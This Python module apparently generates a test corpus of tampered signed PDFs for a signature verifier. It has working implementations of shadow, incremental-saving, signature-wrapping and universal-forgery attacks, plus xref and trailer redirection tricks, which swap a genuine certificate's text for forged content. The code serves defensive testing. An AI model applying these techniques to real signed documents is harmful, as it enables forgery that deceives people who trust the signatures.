"""Attacks on signed PDFs, one file per class, each built from a genuine
pyHanko-signed document by appending revisions or editing bytes in place:

- shadow attacks (Mainka, Mladenov, Rohlmann, Schwenk, NDSS 2021): hide,
  replace, hide-and-replace, on a "shadow" document whose signed revision
  already carries the hidden content;
- incremental saving, signature wrapping and universal signature forgery
  (Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, CCS 2019);
- structural tricks: a later signature hidden by breaking its /V, xref and
  trailer redirection, object streams overriding earlier objects, /Prev
  loops, changed /Perms or /AcroForm, page-tree and resource swaps.

tests/verify_attacks.rs asserts the exact finding of each. Called by
make_corpus.py; `kit` carries its helpers.
"""

import re

EVIL = b"BT /F1 12 Tf 72 720 Td (Ganyu village certificate No. 9999-9999) Tj ET"


def stream(data):
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def obj_body(pdf, num):
    return re.findall(rb"\n%d 0 obj\n?(.*?)\nendobj" % num, pdf, re.S)[-1].strip()


def startxref(pdf):
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def trailer_size(pdf):
    return int(re.findall(rb"/Size (\d+)", pdf)[-1])


def raw_revision(pdf, objects, *, root=1, xref_override=None, prev_self=False):
    """Append a revision with a classic xref table. `xref_override` maps
    object numbers to offsets written as they are (to point a number at
    other bytes); `prev_self` makes the new section's /Prev point to itself."""
    out = bytearray(pdf)
    if not pdf.endswith(b"\n"):
        out += b"\n"
    offs = {}
    for num, body in sorted(objects.items()):
        offs[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    offs.update(xref_override or {})
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for num in sorted(offs):
        out += b"%d 1\n%010d 00000 n \n" % (num, offs[num])
    size = max(trailer_size(pdf), max(offs) + 1)
    prev = xref if prev_self else startxref(pdf)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref)
    return bytes(out)


def objstm_revision(pdf, compressed, plain):
    """Append a revision written as PDF 1.5 writers do: the `compressed`
    objects {num: body} inside one object stream, `plain` ones as usual, and
    a cross-reference stream (uncompressed, /W [1 4 2])."""
    out = bytearray(pdf)
    if not pdf.endswith(b"\n"):
        out += b"\n"
    size = max([trailer_size(pdf)] + [n + 1 for n in list(compressed) + list(plain)])
    stm_num, xref_num = size, size + 1
    rows = {}
    for num, body in sorted(plain.items()):
        rows[num] = (1, len(out), 0)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    header, data = b"", b""
    for i, (num, body) in enumerate(sorted(compressed.items())):
        header += b"%d %d " % (num, len(data))
        data += body + b"\n"
        rows[num] = (2, stm_num, i)
    rows[stm_num] = (1, len(out), 0)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n"
            % (stm_num, len(compressed), len(header), len(header) + len(data)) + header + data + b"\nendstream\nendobj\n")
    xref = len(out)
    rows[xref_num] = (1, xref, 0)
    index, table = b"", b""
    for num in sorted(rows):
        t, f2, f3 = rows[num]
        index += b"%d 1 " % num
        table += bytes([t]) + f2.to_bytes(4, "big") + f3.to_bytes(2, "big")
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Index [ %s] /W [1 4 2] /Root 1 0 R /Prev %d /Length %d >>\nstream\n"
            % (xref_num, xref_num + 1, index, startxref(pdf), len(table)) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def shadow_base():
    """The attacker's "shadow" document, before it is signed: the page draws
    the evil text (object 4) and then an opaque overlay with the genuine text
    (object 6); a second page tree (7, 8, 9) is defined but unused; and a
    second, unused body of object 4 sits in the file outside the xref."""
    genuine = b"BT /F1 12 Tf 72 720 Td (Ganyu village certificate No. 2026-0001) Tj ET"
    overlay = b"q 1 1 1 rg 60 700 480 40 re f Q " + genuine
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 6 0 R] "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream(EVIL),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(overlay),
        b"<< /Type /Pages /Kids [8 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 7 0 R /MediaBox [0 0 595 842] /Contents 9 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream(EVIL),
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, o in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    dead = len(out)
    out += b"4 0 obj\n" + stream(EVIL + b" % the dead body") + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out), dead


def in_place(pdf, old, new):
    """Replace `old` by `new` padded with spaces to the same length (offsets
    stay valid)."""
    assert len(new) <= len(old) and pdf.count(old) >= 1
    return pdf.replace(old, new + b" " * (len(old) - len(new)), 1)


def build(kit, bt, two):
    """`bt`: one signature (objects 1 catalog, 2 pages, 3 page, 4 content,
    5 font); `two`: two signatures. Returns {file: bytes}."""
    f = {}
    n = trailer_size(bt)
    page = obj_body(bt, 3)
    cat = obj_body(bt, 1)

    # --- shadow attacks, on the signed shadow document ---
    base, dead = shadow_base()
    shadow = kit.sign(base, kit.seal, kit.seal_k)
    f["attack_shadow_signed.pdf"] = shadow  # the shadow document itself is genuine
    s_page = obj_body(shadow, 3)
    assert re.search(rb"\[\s*4 0 R\s+6 0 R\s*\]", s_page)
    # Hide: the overlay dropped from the page's content array, revealing the evil text.
    f["attack_shadow_hide.pdf"] = raw_revision(
        shadow, {3: re.sub(rb"\[\s*4 0 R\s+6 0 R\s*\]", b"[4 0 R]", s_page)})
    # Replace: the font (a page resource) swapped for another object.
    f["attack_shadow_replace.pdf"] = raw_revision(
        bt, {n: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>",
             3: page.replace(b"/F1 5 0 R", b"/F1 %d 0 R" % n)})
    # Hide-and-replace: the catalog pointed at the unused page tree signed with it.
    s_cat = obj_body(shadow, 1)
    f["attack_shadow_hide_and_replace.pdf"] = raw_revision(shadow, {1: s_cat.replace(b"/Pages 2 0 R", b"/Pages 7 0 R")})
    # Xref redirection with no new object at all: object 4's entry pointed at
    # the dead body of object 4 that the signed revision already carried.
    f["attack_xref_redirect_dead_body.pdf"] = raw_revision(shadow, {}, xref_override={4: dead})

    # --- incremental saving attack (CCS 2019) ---
    # With xref and trailer: a new catalog and page tree with other text.
    f["attack_incremental_saving.pdf"] = raw_revision(
        bt, {n: b"<< /Type /Catalog /Pages %d 0 R >>" % (n + 1),
             n + 1: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 2),
             n + 2: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (n + 1, n + 3),
             n + 3: stream(EVIL)}, root=n)
    # Without xref and trailer: a redefinition of the content appended after
    # the last %%EOF, for readers that repair the file by scanning it.
    f["attack_incremental_saving_no_xref.pdf"] = bt + b"4 0 obj\n" + stream(EVIL) + b"\nendobj\n"

    # --- signature wrapping (CCS 2019): bytes smuggled into the unsigned
    # gap of the byte range, after a shortened signature value ---
    c0 = bt.index(b"/Contents <") + len(b"/Contents <")
    c1 = bt.index(b">", c0)
    hexval = bt[c0:c1]
    der_len = 4 + int(hexval[4:8], 16)  # 30 82 LL LL
    shortened = hexval[:2 * der_len] + b">"
    smuggled = b" /Reason (" + b"A" * (c1 - c0 - len(shortened) - 10) + b")"
    f["attack_signature_wrapping.pdf"] = bt[:c0] + shortened + smuggled + bt[c1 + 1:]
    assert len(f["attack_signature_wrapping.pdf"]) == len(bt)

    # --- universal signature forgery (CCS 2019) ---
    f["attack_usf_contents_zero.pdf"] = bt[:c0] + b"0" * (c1 - c0) + bt[c1:]
    f["attack_usf_contents_empty.pdf"] = bt[:c0 - 1] + b"<>" + b" " * (c1 - c0) + bt[c1 + 1:]
    br = re.search(rb"/ByteRange \[[ 0-9]+\]", bt).group(0)
    f["attack_usf_byterange_missing.pdf"] = in_place(bt, br, b"")
    f["attack_usf_byterange_zero.pdf"] = in_place(bt, br, b"/ByteRange [0 0 0 0]")

    # --- xref and trailer redirection ---
    # Object 4 (the signed content) pointed at another object's bytes.
    hidden = raw_revision(bt, {n: stream(EVIL)})
    at = hidden.index(b"\n%d 0 obj\n" % n) + 1
    f["attack_xref_redirect.pdf"] = raw_revision(hidden, {}, xref_override={4: at})
    # /Root pointed at a copy of the catalog with an /OpenAction.
    f["attack_trailer_redirect.pdf"] = raw_revision(
        bt, {n: cat[:-2] + b" /OpenAction << /S /URI /URI (http://example.invalid/) >> >>"}, root=n)

    # --- object streams overriding earlier objects: the font redefined
    # inside an object stream of a cross-reference-stream revision ---
    f["attack_objstm_override.pdf"] = objstm_revision(
        bt, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"}, {})

    # --- /Prev loop: the newest section's /Prev points to itself ---
    f["attack_prev_loop.pdf"] = raw_revision(bt, {5: obj_body(bt, 5)}, prev_self=True)

    # --- changed /Perms and /AcroForm ---
    f["attack_perms_changed.pdf"] = raw_revision(
        bt, {1: cat[:-2] + b" /Perms << /DocMDP %d 0 R >> >>" % n, n: b"<< /Type /Sig >>"})
    acro = int(re.search(rb"/AcroForm (\d+) 0 R", cat).group(1))
    f["attack_acroform_changed.pdf"] = raw_revision(bt, {acro: obj_body(bt, acro)[:-2] + b" /NeedAppearances true >>"})

    # --- page-tree and resource swaps ---
    f["attack_page_tree_swap.pdf"] = raw_revision(
        bt, {2: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % n,
             n: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (n + 1),
             n + 1: stream(EVIL)})
    f["attack_resource_swap.pdf"] = raw_revision(
        bt, {3: re.sub(rb"/Resources\s*<<.*?>>\s*>>", b"/Resources << /Font << /F1 %d 0 R >> >>" % n, page, flags=re.S),
             n: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"})

    # --- a later signature hidden by breaking its /V (the field now points nowhere) ---
    at = two.rindex(b"/T (Seal2)")
    num = int(list(re.finditer(rb"\n(\d+) 0 obj", two[:at]))[-1].group(1))
    body = obj_body(two, num)
    f["attack_hidden_signature.pdf"] = raw_revision(
        two, {num: re.sub(rb"/V\s+\d+\s+0\s+R", b"/V %d 0 R" % (trailer_size(two) + 50), body)})
    # ... or pointing at an object that is not a signature (the page).
    f["attack_hidden_signature_not_sig.pdf"] = raw_revision(
        two, {num: re.sub(rb"/V\s+\d+\s+0\s+R", b"/V 3 0 R", body)})
    return f
